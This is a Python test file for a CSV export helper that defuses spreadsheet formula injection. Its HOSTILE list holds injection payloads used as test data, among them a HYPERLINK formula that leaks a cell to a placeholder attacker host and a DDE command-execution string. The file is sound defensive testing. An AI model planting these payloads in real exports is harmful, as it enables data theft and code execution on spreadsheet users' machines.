"""The shared CSV helper: hostile cells are neutralised, everything else survives a round trip."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontdoor.web.downloads import BOM, FORMULA_STARTS, csv_cell, csv_filename, csv_text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "  =1+1",
    "\n@import",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def _parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_made_text(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_reaches_the_file_neutralised_and_otherwise_unchanged(value: str) -> None:
    rows = _parse(csv_text(["Referrer"], [[value]]))
    assert rows == [["Referrer"], ["'" + value]]


@pytest.mark.parametrize(
    "value",
    ["Pat Teacher", "C0000123", "dsl@school.example.org", "07700 900123", "Zoë Łukasz", "", "a=b"],
)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell(2.5) == 2.5
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert _parse(csv_text(["n"], [[-3]]))[1] == ["-3"]


def test_other_values_are_written_plainly() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(True) == "Yes"
    assert csv_cell(False) == "No"
    assert csv_cell(date(2026, 3, 2)) == "2026-03-02"
    # Aware times in local time (Europe/London: GMT in March before the clocks change).
    assert csv_cell(datetime(2026, 3, 2, 10, 5, tzinfo=UTC)) == "2026-03-02 10:05"
    assert csv_cell(datetime(2026, 7, 2, 10, 5, tzinfo=UTC)) == "2026-07-02 11:05"


def test_every_text_cell_is_quoted_and_new_lines_and_quotes_survive() -> None:
    text = csv_text(["Concern"], [['She said "stop"\nand left, quickly']])
    assert '"She said ""stop""\nand left, quickly"' in text
    assert _parse(text)[1] == ['She said "stop"\nand left, quickly']


def test_the_file_name_carries_the_local_time() -> None:
    at = datetime(2026, 7, 2, 10, 5, tzinfo=UTC)
    assert csv_filename("contacts", at) == "contacts-20260702-1105.csv"


@given(st.text())
def test_no_text_whatever_reaches_a_cell_as_a_formula(value: str) -> None:
    cell = _parse(csv_text(["x"], [[value]]))[1][0]
    # What a spreadsheet looks at: the first character, and the first after any blanks.
    first = cell.lstrip()[:1]
    assert cell[:1] not in FORMULA_STARTS
    assert first not in FORMULA_STARTS or cell.startswith("'")
